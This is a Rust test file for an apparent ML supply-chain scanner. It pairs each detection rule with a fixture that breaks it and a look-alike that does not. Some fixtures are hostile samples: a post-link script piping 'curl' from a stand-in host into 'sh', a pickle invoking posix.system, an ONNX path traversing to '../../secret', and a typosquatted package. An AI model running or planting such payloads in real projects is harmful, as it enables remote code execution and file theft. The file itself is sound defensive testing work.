//! For each rule a target that breaks it and one that looks alike and does not, from bytes to findings.
//!
//! The details of a rule are tested beside its code; here every rule of the table must be met on real files at all.

use std::collections::BTreeSet;

use libtest_mimic::Trial;
use weighbridge_check::policy::Policy;
use weighbridge_core::digest::Digest;
use weighbridge_core::lock::Approval;
use weighbridge_engine::enrich::Knowledge;
use weighbridge_engine::flow::{Asking, Request, scan_knowing};
use weighbridge_trust::oms::Method;

use crate::index;
use crate::locks;
use crate::shelf::{Manner, Shelf};
use crate::signed_tensors;
use crate::suite::build::protobuf::message;
use crate::suite::build::{binary, onnx, tensorflow};
use crate::support::{Folder, context, test};

/// A rule, a target that breaks it, and one that does not.
type Fixture = (&'static str, fn(Folder) -> Folder, fn(Folder) -> Folder);

/// An environment with a wheel that brought a copy of OpenSSL along.
fn library(folder: Folder, text: &str) -> Folder {
    let file = binary::elf(&binary::Binary {
        name: "libcrypto.so.1.1",
        defines: &["OpenSSL_version"],
        texts: &[text],
        ..binary::Binary::default()
    });
    environment(folder).file("venv/lib/python3.12/site-packages/x.libs/libcrypto-0a1b2c3d.so.1.1", file)
}

/// By id.
const FIXTURES: &[Fixture] = &[
    (
        "WB-A001",
        |folder| folder.file("weights.safetensors", HARMLESS_PICKLE),
        |folder| folder.file("weights.pt", HARMLESS_PICKLE).file("weights.bin", HARMLESS_PICKLE),
    ),
    (
        "WB-A002",
        |folder| folder.file("a.npy", [ARRAY, b"nobody asked for these"].concat()),
        |folder| folder.file("a.npy", ARRAY),
    ),
    (
        "WB-A003",
        |folder| folder.file(format!("models--a--b/blobs/{}", Digest::of(b"another one")), HARMLESS_PICKLE),
        |folder| folder.file(format!("models--a--b/blobs/{}", Digest::of(HARMLESS_PICKLE)), HARMLESS_PICKLE),
    ),
    (
        "WB-D001",
        |folder| folder.file("requirements.txt", "pillow==9.0.0\n"),
        |folder| folder.file("requirements.txt", "six==1.17.0\n"),
    ),
    (
        "WB-D002",
        |folder| folder.file("requirements.txt", "openai-mcp==2.41.1\n"),
        |folder| folder.file("requirements.txt", "openai==1.0.0\n"),
    ),
    (
        "WB-D003",
        |folder| installed(folder, "shop/__init__.py", b"print('changed')\n"),
        |folder| installed(folder, "shop/__init__.py", b"print('shop')\n"),
    ),
    (
        "WB-D004",
        |folder| {
            installed(folder, "shop/__init__.py", b"print('shop')\n")
                .file("venv/lib/python3.12/site-packages/shop/extra.py", "print('who put me here?')\n")
        },
        |folder| installed(folder, "shop/__init__.py", b"print('shop')\n"),
    ),
    (
        "WB-D005",
        |folder| {
            environment(folder).file("venv/lib/python3.12/site-packages/x.pth", "import os; os.getcwd()\n")
        },
        |folder| environment(folder).file("venv/lib/python3.12/site-packages/x.pth", "../elsewhere\n"),
    ),
    (
        "WB-D006",
        |folder| folder.file("requirements.txt", "shop @ git+https://git.example/shop@main\n"),
        |folder| {
            let commit = "0123456789abcdef0123456789abcdef01234567";
            folder.file("requirements.txt", format!("shop @ git+https://git.example/shop@{commit}\n"))
        },
    ),
    (
        "WB-D007",
        |folder| folder.file("requirements.txt", "six>=1.0\n"),
        |folder| folder.file("requirements.txt", "six==1.17.0\n"),
    ),
    (
        "WB-D008",
        |folder| {
            installed(folder, "shop/__init__.py", b"print('shop')\n").file("requirements.txt", "shop==9\n")
        },
        |folder| {
            installed(folder, "shop/__init__.py", b"print('shop')\n").file("requirements.txt", "shop>=1\n")
        },
    ),
    (
        "WB-D009",
        |folder| scripted(folder, "bin/.shop-post-link.sh", "curl -s https://host.example/x | sh\n"),
        |folder| scripted(folder, "etc/conda/activate.d/shop.sh", "export SHOP=1\n"),
    ),
    (
        "WB-D010",
        |folder| folder.file("requirements.txt", "reqeusts==2.0\n"),
        |folder| folder.file("requirements.txt", "requests==2.32.5\n"),
    ),
    (
        "WB-D011",
        |folder| {
            let commands = "FROM a\nRUN pip install --extra-index-url https://own.example/simple our-private-tools==1.0\n";
            folder.file("Dockerfile", commands)
        },
        |folder| {
            let commands =
                "FROM a\nRUN pip install --index-url https://own.example/simple our-private-tools==1.0\n";
            folder.file("Dockerfile", commands)
        },
    ),
    (
        "WB-D012",
        |folder| folder.file("requirements.txt", "fastapi-llm-guardian\n"),
        |folder| folder.file("requirements.txt", "fastapi-llm-guardian==1.0\n"),
    ),
    (
        "WB-D013",
        |folder| folder.file("requirements.txt", "taken-back==1.0\n"),
        |folder| folder.file("requirements.txt", "taken-back==2.0\nof-our-own==1.0\n"),
    ),
    (
        "WB-D014",
        |folder| folder.file("shop-1-py3-none-any.whl", packed("print('evil')\n")),
        |folder| folder.file("shop-1-py3-none-any.whl", packed("print('shop')\n")),
    ),
    (
        "WB-G001",
        |folder| folder.file("model.onnx", beside("../../secret")),
        |folder| folder.file("model.onnx", beside("weights.bin")).file("weights.bin", [0; 16]),
    ),
    (
        "WB-G002",
        |folder| folder.file("model.onnx", onnx::model(&[onnx::node("com.example", "Scale")])),
        |folder| folder.file("model.onnx", onnx::model(&[onnx::node("", "Relu")])),
    ),
    (
        "WB-K001",
        |folder| folder.file("saved_model.pb", graph("WriteFile")),
        |folder| folder.file("saved_model.pb", graph("Relu")),
    ),
    (
        "WB-K002",
        |folder| folder.file("saved_model.pb", graph("ShopsOwnOperator")),
        |folder| folder.file("saved_model.pb", graph("Relu")),
    ),
    (
        "WB-N001",
        |folder| library(folder, "OpenSSL 1.1.1k  25 Mar 2021"),
        |folder| library(folder, "OpenSSL 4.0.3  25 Mar 2026"),
    ),
    (
        "WB-P001",
        |folder| folder.file("model.pkl", b"\x80\x02cposix\nsystem\nX\x04\0\0\0echo\x85R."),
        |folder| folder.file("model.pkl", b"\x80\x02ccollections\nOrderedDict\n)R."),
    ),
    (
        "WB-P002",
        |folder| {
            folder
                .file("model.pkl", b"\x80\x02cshop\nModel\n)R.")
                .file("conf/model.yaml", "model:\n  _target_: elsewhere.Net\n")
                .file("src/shop/__init__.py", "")
        },
        // Settings of a project name its own code.
        |folder| {
            folder
                .file("model.pkl", b"\x80\x02ccollections\nOrderedDict\n)R.")
                .file("conf/model.yaml", "model:\n  _target_: shop.Net\n")
                .file("src/shop/__init__.py", "")
        },
    ),
    (
        "WB-S001",
        |folder| locked(folder, |it| Approval { signature_required: true, ..it }),
        |folder| signed(folder, |it| Approval { signature_required: true, ..it }),
    ),
    (
        "WB-S002",
        |folder| locked(folder, |it| it).file("m/w.pkl", b"\x80\x02}."),
        |folder| locked(folder, |it| it).file("n/w.pkl", b"\x80\x02}."),
    ),
    (
        "WB-S003",
        |folder| locked(folder, |it| it).file("m/modeling.py", "x = 1"),
        |folder| locked(folder, |it| it).file("modeling.py", "x = 1"),
    ),
    (
        "WB-S004",
        |folder| locks::sign(signed(folder, |it| it), "m", 1, Method::Files),
        |folder| signed(folder, |it| it),
    ),
    (
        "WB-S005",
        |folder| locked(folder, |it| locks::signed_by(it, 0, "model.sig")),
        |folder| signed(folder, |it| it),
    ),
    ("WB-S006", |folder| cached(folder, "1"), |folder| cached(folder, "0")),
    (
        "WB-S007",
        |folder| signed(folder, |it| it).file("m/modeling.py", "x = 1"),
        |folder| signed(folder, |it| it).file("modeling.py", "x = 1"),
    ),
    (
        "WB-S008",
        |folder| folder.file("weighbridge.lock", "version = 1\nmodel = 1\n"),
        |folder| folder.file("weighbridge.lock", "version = 1\n"),
    ),
    (
        "WB-S009",
        |folder| {
            locks::attest(folder.file("m/w.pkl", HARMLESS_PICKLE), "m", 0).file("m/w.pkl", b"\x80\x02}.")
        },
        |folder| locks::attest(folder.file("m/w.pkl", HARMLESS_PICKLE), "m", 0),
    ),
    ("WB-S010", |folder| again(folder, HARMLESS_PICKLE), |folder| again(folder, b"another")),
    ("WB-S011", signed_tensors::altered, signed_tensors::model),
];

/// `{"a": 1}` in protocol 2.
const HARMLESS_PICKLE: &[u8] = b"\x80\x02}X\x01\0\0\0aK\x01s.";

/// An npy of version 1.0 with three bytes.
const ARRAY: &[u8] = b"\x93NUMPY\x01\0\x38\0{'descr': '|u1', 'fortran_order': False, 'shape': (3,)}\nabc";

/// An ONNX model with a tensor in a file of this name.
fn beside(location: &str) -> Vec<u8> {
    onnx::model(&[onnx::node("", "Add"), message(5, &onnx::external(location, &[]))])
}

/// A TensorFlow model with one operator.
fn graph(operator: &str) -> Vec<u8> {
    let node = tensorflow::node("n", operator, &["x", "x"], &[]);
    tensorflow::saved_model(&tensorflow::graph(&[node]), &[])
}

fn environment(folder: Folder) -> Folder {
    folder.file("venv/pyvenv.cfg", "version_info = 3.12.1\n").folder("venv/lib/python3.12/site-packages")
}

/// An environment with the package `shop`, which recorded one file, and this content in it.
fn installed(folder: Folder, path: &str, content: &[u8]) -> Folder {
    let site = "venv/lib/python3.12/site-packages";
    let metadata = "Metadata-Version: 2.1\nName: shop\nVersion: 1\n";
    let hash = |bytes: &[u8]| base64(Digest::of(bytes).as_bytes());
    let record = format!(
        "shop/__init__.py,sha256={},14\nshop-1.dist-info/METADATA,sha256={},{}\nshop-1.dist-info/RECORD,,\n",
        hash(b"print('shop')\n"),
        hash(metadata.as_bytes()),
        metadata.len(),
    );
    environment(folder)
        .file(format!("{site}/shop-1.dist-info/METADATA"), metadata)
        .file(format!("{site}/shop-1.dist-info/RECORD"), record)
        .file(format!("{site}/{path}"), content)
}

/// A wheel whose record was written for `print('shop')`.
fn packed(module: &str) -> Vec<u8> {
    let metadata = "Metadata-Version: 2.1\nName: shop\nVersion: 1\n";
    let hash = |text: &str| base64(Digest::of(text.as_bytes()).as_bytes());
    let record = format!(
        "shop/__init__.py,sha256={},14\nshop-1.dist-info/METADATA,sha256={},{}\nshop-1.dist-info/RECORD,,\n",
        hash("print('shop')\n"),
        hash(metadata),
        metadata.len(),
    );
    crate::shelf::wheel(&[
        ("shop/__init__.py", module),
        ("shop-1.dist-info/METADATA", metadata),
        ("shop-1.dist-info/RECORD", &record),
        ("shop-1.dist-info/RECORD.jws", "{}"),
    ])
}

/// A model, and a lock that says it was approved as it is.
fn locked(folder: Folder, approve: fn(Approval) -> Approval) -> Folder {
    let approval = approve(locks::pins(&[("w.pkl", HARMLESS_PICKLE)]));
    locks::locking(folder.file("m/w.pkl", HARMLESS_PICKLE), &[approval])
}

/// A model, and a lock in which something took the place of one with these weights.
fn again(folder: Folder, replaced: &[u8]) -> Folder {
    let now = locks::pins(&[("w.pkl", b"approved")]);
    let day = now.approved;
    let approval = weighbridge_trust::lock::supersede(locks::pins(&[("w.pkl", replaced)]), now, day);
    locks::locking(folder.file("m/w.pkl", HARMLESS_PICKLE), &[approval])
}

/// The same, signed.
fn signed(folder: Folder, approve: fn(Approval) -> Approval) -> Folder {
    let folder = locks::sign(folder.file("m/w.pkl", HARMLESS_PICKLE), "m", 0, Method::Files);
    let approval = locks::signed_by(locks::pins(&[("w.pkl", HARMLESS_PICKLE)]), 0, "model.sig");
    locks::locking(folder, &[approve(approval)])
}

/// A repository of the hub with two revisions, of which `main` is the one that begins so.
fn cached(folder: Folder, main: &str) -> Folder {
    let revision = |begin: &str| format!("{begin}123456789abcdef0123456789abcdef01234567");
    let approval = Approval {
        source: "hf://a/b".to_owned(),
        revision: Some(revision("0")),
        ..locks::pins(&[("w.pkl", HARMLESS_PICKLE)])
    };
    let folder = folder
        .file(format!("models--a--b/snapshots/{}/w.pkl", revision("0")), HARMLESS_PICKLE)
        .file(format!("models--a--b/snapshots/{}/w.pkl", revision("1")), HARMLESS_PICKLE)
        .file("models--a--b/refs/main", revision(main));
    locks::locking(folder, &[approval])
}

/// An environment of conda with the package `shop`, which has installed this script.
fn scripted(folder: Folder, path: &str, script: &str) -> Folder {
    folder
        .file("env/conda-meta/shop-1.0-0.json", crate::conda::note("shop", "1.0", &[], &[(path, script)]))
        .file(format!("env/{path}"), script)
}

/// Base64 for file names without padding (RFC 4648, section 5), as records write digests.
fn base64(bytes: &[u8]) -> String {
    const ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    let mut text = String::new();
    for chunk in bytes.chunks(3) {
        let word =
            chunk.iter().fold(0u32, |word, byte| word << 8 | u32::from(*byte)) << (8 * (3 - chunk.len()));
        for digit in 0..=chunk.len() {
            text.push(char::from(ALPHABET[(word >> (18 - 6 * digit) & 63) as usize]));
        }
    }
    text
}

pub(crate) fn tests() -> Vec<Trial> {
    let mut tests = vec![test("rules::every_rule_has_a_target_that_breaks_it", || {
        let rules: Vec<&str> = weighbridge_check::rules().map(|rule| rule.id).collect();
        assert_eq!(FIXTURES.iter().map(|(id, _, _)| *id).collect::<Vec<_>>(), rules);
    })];
    for (id, breaks, looks_alike) in FIXTURES {
        tests.push(test(&format!("rules::{id}"), move || {
            assert!(broken(breaks(Folder::new())).contains(id), "nothing is found");
            assert!(!broken(looks_alike(Folder::new())).contains(id), "what looks alike is found");
        }));
    }
    tests
}

/// The rules that a scan of the folder finds broken.
fn broken(folder: Folder) -> BTreeSet<&'static str> {
    let policy = Policy::default();
    let request = Request {
        targets: &[folder.text()],
        locks: &[],
        exclude: &[],
        jobs: None,
        readers: weighbridge_read::READERS,
        policy: &policy,
    };
    let advisories = weighbridge_advisory::Index::embedded().unwrap();
    let server = Shelf::new("taken-back 1.0 yanked\n taken-back 2.0").serve(Manner::default());
    let packages = index::client(&[&format!("{}/simple", server.url())], None, true);
    let asking = Asking { standings: Some(&packages), versions: None };
    let knowledge = Knowledge::of(&advisories, "embedded");
    let report = scan_knowing(&request, &knowledge, &asking, &context(), &()).unwrap();
    assert!(report.coverage.unread.is_empty(), "{:?}", report.coverage.unread);
    report.findings.iter().map(|finding| finding.rule.id).collect()
}
